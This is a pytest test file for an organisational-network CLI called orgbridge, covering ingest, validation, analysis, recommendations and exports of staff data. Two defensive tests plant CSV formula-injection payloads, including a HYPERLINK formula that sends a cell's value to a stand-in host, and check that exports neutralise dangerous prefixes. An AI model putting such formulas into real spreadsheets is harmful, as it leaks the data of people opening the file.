"""The orgbridge command end to end: demo -> validate -> ingest -> summary/analyze/export."""

from __future__ import annotations

import json
import stat
import subprocess
import sys
from pathlib import Path

import networkx as nx
import pandas as pd
import pytest

from orgbridge.cli import main
from orgbridge.graph import Workspace
from orgbridge.ingest import read_graphml


@pytest.fixture(scope="module")
def org(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("org")
    assert main(["demo", "--people", "120", "--seed", "3", "--out", str(folder)]) == 0
    return folder


def sources(org: Path) -> list[str]:
    return [
        "--staff", str(org / "staff.csv"),
        "--projects", str(org / "projects.csv"),
        "--pairs", str(org / "pairs.csv"),
        "--sponsorships", str(org / "sponsorships.csv"),
    ]  # fmt: skip


def run_json(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, dict]:  # type: ignore[type-arg]
    status = main(argv)
    out = capsys.readouterr().out.strip().splitlines()
    return status, json.loads(out[-1])


def test_ingest_json_reports_every_row(
    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, report = run_json(
        ["ingest", "--workspace", str(tmp_path / "ws"), *sources(org), "--json"], capsys
    )
    assert status == 0
    assert set(report) >= {"people", "ties", "rows_in", "rows_loaded", "rows_rejected", "errors"}
    staff_rows = len(pd.read_csv(org / "staff.csv"))
    project_rows = len(pd.read_csv(org / "projects.csv"))
    pair_rows = len(pd.read_csv(org / "pairs.csv"))
    sponsor_rows = len(pd.read_csv(org / "sponsorships.csv"))
    assert report["people"] == staff_rows == 120
    assert report["rows_in"] == staff_rows + project_rows + pair_rows + sponsor_rows
    assert report["rows_in"] == report["rows_loaded"] + report["rows_rejected"]
    assert report["ties"]["reports_to"] == 119
    assert report["ties"]["mentoring"] == pair_rows
    with Workspace.open(tmp_path / "ws") as workspace:
        assert workspace.load_graph().n_people == 120
        assert len(workspace.import_log()) == 1


def test_validate_names_file_row_and_column_and_writes_nothing(
    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    staff = pd.read_csv(org / "staff.csv", dtype=str, keep_default_na=False)
    staff.loc[4, "manager_id"] = "NOBODY"
    staff.loc[7, "person_id"] = staff.loc[6, "person_id"]
    bad = tmp_path / "staff.csv"
    staff.to_csv(bad, index=False)
    ties = tmp_path / "ties.csv"
    first = staff.loc[0, "person_id"]
    ties.write_text(f"source,target,weight\n{first},GHOST,1\n{first},{first},1\n")
    status, report = run_json(
        ["validate", "--staff", str(bad), "--ties", str(ties), "--layer", "advice", "--json"],
        capsys,
    )
    assert status == 1
    where = {(e["file"], e["row"], e["column"]) for e in report["errors"]}
    assert ("staff.csv", 9, "person_id") in where  # data row 8 is spreadsheet row 9
    assert ("ties.csv", 2, "target") in where
    assert any(e["row"] == 3 for e in report["errors"] if e["file"] == "ties.csv")
    assert any("NOBODY" in w["message"] for w in report["warnings"])
    assert report["rows_in"] == report["rows_loaded"] + report["rows_rejected"]
    assert not (tmp_path / "orgbridge.duckdb").exists()


def test_strict_ingest_rejects_the_whole_import(
    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workspace = tmp_path / "ws"
    assert main(["ingest", "--workspace", str(workspace), *sources(org)]) == 0
    ties = tmp_path / "ties.csv"
    ties.write_text("source,target\nE0001,GHOST\n")
    capsys.readouterr()
    status = main(
        ["ingest", "--workspace", str(workspace), "--ties", str(ties), "--layer", "advice",
         "--strict"]
    )  # fmt: skip
    assert status == 1
    assert "GHOST" in capsys.readouterr().out
    with Workspace.open(workspace) as store:
        assert "advice" not in store.load_graph().tie_counts()
        assert len(store.import_log()) == 1


def test_garbage_input_gets_a_sentence_not_a_traceback(tmp_path: Path) -> None:
    junk = tmp_path / "staff.csv"
    junk.write_bytes(b"\x00\xff\xfe garbage \x00\n\x01,\x02\n")
    result = subprocess.run(
        [sys.executable, "-m", "orgbridge", "validate", "--staff", str(junk)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode in (1, 2)
    assert "Traceback" not in result.stderr + result.stdout
    assert "staff.csv" in result.stderr + result.stdout


def test_export_round_trips_and_leaves_special_attributes_out(
    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workspace = tmp_path / "ws"
    mapping = tmp_path / "map.json"
    mapping.write_text(json.dumps({"special_category": ["gender"]}))
    assert main(["ingest", "--workspace", str(workspace), *sources(org),
                 "--map", str(mapping)]) == 0  # fmt: skip
    graphml = tmp_path / "org.graphml"
    assert main(["export", "--workspace", str(workspace), "--format", "graphml",
                 "--out", str(graphml)]) == 0  # fmt: skip
    people, ties, report = read_graphml(graphml)
    assert len(people) == 120
    assert set(ties["layer"]) >= {"collaboration", "mentoring"}
    assert "gender" not in people.columns
    assert not report.problems or all(p.severity == "warning" for p in report.problems)
    assert nx.read_graphml(graphml).number_of_nodes() == 120
    gexf = tmp_path / "org.gexf"
    assert main(["export", "--workspace", str(workspace), "--format", "gexf",
                 "--out", str(gexf)]) == 0  # fmt: skip
    assert nx.read_gexf(gexf).number_of_nodes() == 120
    folder = tmp_path / "csv"
    assert main(["export", "--workspace", str(workspace), "--format", "csv", "--no-names",
                 "--out", str(folder)]) == 0  # fmt: skip
    exported = pd.read_csv(folder / "people.csv")
    assert "name" not in exported.columns and "gender" not in exported.columns
    with Workspace.open(workspace) as store:
        assert list(store.audit_log()["action"]).count("export") == 3
    for path in (graphml, gexf, folder / "people.csv", folder / "ties.csv"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path  # personal data


def test_analyze_writes_json_html_and_saves_metrics(
    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workspace = tmp_path / "ws"
    assert main(["ingest", "--workspace", str(workspace), *sources(org)]) == 0
    out, page = tmp_path / "a.json", tmp_path / "a.html"
    assert main(["analyze", "--workspace", str(workspace), "--json", str(out),
                 "--html", str(page)]) == 0  # fmt: skip
    document = json.loads(out.read_text())
    assert document["network"]["people"] == 120
    assert len(document["people"]) == 120
    assert "<svg" in page.read_text()
    assert stat.S_IMODE(out.stat().st_mode) == stat.S_IMODE(page.stat().st_mode) == 0o600
    with Workspace.open(workspace) as store:
        assert len(store.load_metrics("analysis")) == 120
    assert main(["analyze", "--workspace", str(workspace), "--min-group", "3"]) == 2
    assert "cannot be below 5" in capsys.readouterr().err


def test_summary_and_console_script(org: Path, tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    assert main(["ingest", "--workspace", str(workspace), *sources(org)]) == 0
    result = subprocess.run(
        [Path(sys.executable).with_name("orgbridge"), "summary", "--workspace",
         str(workspace), "--json"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    summary = json.loads(result.stdout)
    assert summary["people"] == 120 and summary["leaders"] >= 1


def test_neither_store_given_is_a_clear_error(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["summary"]) == 2
    assert "exactly one of --workspace DIR or --store URI" in capsys.readouterr().err


def test_exit_status_and_text_output_say_what_loaded(
    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workspace = str(tmp_path / "ws")
    assert main(["ingest", "--workspace", workspace, *sources(org)]) == 0
    out = capsys.readouterr().out
    assert "  staff.csv (staff): 120 in = 120 loaded + 0 rejected" in out
    ties = tmp_path / "advice.csv"
    ties.write_text("source,target\nE001,E002\nE001,GHOST\nE003\n")
    status = main(["ingest", "--workspace", workspace, "--ties", str(ties), "--layer", "advice"])
    assert status == 3  # saved, with rejected rows
    out = capsys.readouterr().out
    assert "  advice.csv (ties): 3 in = 1 loaded + 2 rejected" in out
    assert "Errors (2):" in out
    assert "  advice.csv row 3, column target: 'GHOST' is not a known person" in out
    assert "  advice.csv row 4: has 1 field, expected 2 (source,target)" in out
    with Workspace.open(workspace) as store:
        assert store.load_graph().tie_counts()["advice"] == 1


def test_a_ragged_roster_is_refused_in_plain_text_too(
    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workspace = str(tmp_path / "ws")
    assert main(["ingest", "--workspace", workspace, *sources(org)]) == 0
    with Workspace.open(workspace) as store:
        before = store.load_graph()
    lines = (org / "staff.csv").read_text().splitlines()
    ragged = [lines[0]] + [line if i % 20 == 0 else line + ",x" for i, line in enumerate(lines[1:])]
    bad = tmp_path / "staff.csv"
    bad.write_text("\n".join(ragged) + "\n")
    capsys.readouterr()
    status = main(["ingest", "--workspace", workspace, "--staff", str(bad)])
    captured = capsys.readouterr()
    assert status == 1
    assert "Refused (nothing written); the import would have held: 6 people" in captured.out
    assert "  staff.csv (staff): 120 in = 6 loaded + 114 rejected" in captured.out
    assert "Refused: it would remove 114 of the 120 people stored (95%" in captured.out
    assert "Refused: it would drop the whole mentoring layer" in captured.out
    assert "staff.csv row 3: has" in captured.out  # the first problems, with file and row
    assert "--allow-shrink" in captured.err
    with Workspace.open(workspace) as store:
        after = store.load_graph()
        assert len(store.import_log()) == 1
    assert after.n_people == before.n_people and after.tie_counts() == before.tie_counts()
    status, report = run_json(
        ["ingest", "--workspace", workspace, "--staff", str(bad), "--json"], capsys
    )
    assert status == 1 and report["refused"][0].startswith("it would remove 114 of the 120")
    status = main(["ingest", "--workspace", workspace, "--staff", str(bad), "--allow-shrink"])
    assert status == 3
    with Workspace.open(workspace) as store:
        assert store.load_graph().n_people == 6


def test_validate_reports_a_refusal_and_max_shrink_is_a_flag(
    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workspace = str(tmp_path / "ws")
    assert main(["ingest", "--workspace", workspace, *sources(org)]) == 0
    staff = pd.read_csv(org / "staff.csv", dtype=str, keep_default_na=False)
    tied = set()
    for name in ("pairs.csv", "sponsorships.csv"):
        tied |= set(pd.read_csv(org / name, dtype=str).iloc[:, :2].to_numpy().ravel())
    leavers = staff.loc[~staff["person_id"].isin(tied), "person_id"].iloc[:20]
    smaller = tmp_path / "staff.csv"
    staff.loc[~staff["person_id"].isin(leavers)].to_csv(smaller, index=False)  # 17% leave
    capsys.readouterr()
    assert main(["validate", "--workspace", workspace, "--staff", str(smaller)]) == 1
    assert "Refused: it would remove 20 of the 120 people stored (17%" in capsys.readouterr().out
    argv = ["ingest", "--workspace", workspace, "--staff", str(smaller), "--max-shrink", "0.2"]
    assert main(argv) == 0


def test_sheet_flag_reads_the_named_sheet(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "staff.xlsx"
    with pd.ExcelWriter(path) as writer:
        pd.DataFrame({"note": ["read me"]}).to_excel(writer, sheet_name="About", index=False)
        pd.DataFrame({"person_id": ["a", "b"], "manager_id": [None, "a"]}).to_excel(
            writer, sheet_name="Staff", index=False
        )
    workspace = str(tmp_path / "ws")
    assert main(["ingest", "--workspace", workspace, "--staff", str(path), "--sheet", "Staff"]) == 0
    assert main(["validate", "--staff", str(path), "--sheet", "2"]) == 0
    capsys.readouterr()
    assert main(["validate", "--staff", str(path), "--sheet", "People"]) == 1
    out = capsys.readouterr().out
    assert "staff.xlsx: the workbook has no sheet 'People' (it has 'About', 'Staff')" in out


def test_problem_report_and_csv_export_cannot_run_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import csv

    staff = tmp_path / "@staff.csv"
    staff.write_text(
        'person_id,name,=col\n-a,"=HYPERLINK(""http://x?x=""&A1,""Click me"")",+1\n'
        "b,@Bo,x\nb,Again,y\n"
    )
    workspace = str(tmp_path / "ws")
    problems = tmp_path / "problems.csv"
    status = main(["ingest", "--workspace", workspace, "--staff", str(staff),
                   "--report", str(problems)])  # fmt: skip
    assert status == 3  # the repeated id is rejected
    out = tmp_path / "csv"
    assert main(["export", "--workspace", workspace, "--format", "csv", "--out", str(out)]) == 0
    prefixes = ("=", "+", "-", "@", "\t", "\r")
    for path in (problems, out / "people.csv", out / "ties.csv"):
        with path.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        assert len(rows) >= 2 or path.name == "ties.csv"
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(prefixes)], path.name
    with problems.open(newline="", encoding="utf-8") as handle:
        assert next(row[:4] for row in csv.reader(handle) if row[0] == "error") == [
            "error",
            "'@staff.csv",
            "4",
            "person_id",
        ]
    people = pd.read_csv(out / "people.csv", dtype=str, keep_default_na=False)
    assert people.set_index("person_id")["name"]["'-a"].startswith("'=HYPERLINK(")


def test_recommend_csv_cannot_run_formulas(
    org: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import csv
    import re

    hostile = tmp_path / "org"
    hostile.mkdir()
    for source in org.glob("*.csv"):  # every person id starts a formula: =E001, =E002, ...
        text = re.sub(r"\bE(\d{3})\b", r"=E\1", source.read_text())
        (hostile / source.name).write_text(text)
    workspace = str(tmp_path / "ws")
    assert main(["ingest", "--workspace", workspace, *sources(hostile)]) == 0
    out = tmp_path / "run.csv"
    argv = ["recommend", "--workspace", workspace, "--kind", "pairs", "--count", "5",
            "--json", str(tmp_path / "run.json"), "--csv", str(out)]  # fmt: skip
    assert main(argv) == 0
    for path in (out, tmp_path / "run.json"):  # named proposals: the owner's only
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) > 1
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=E") for cell in cells)
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.e+-]+", c)]
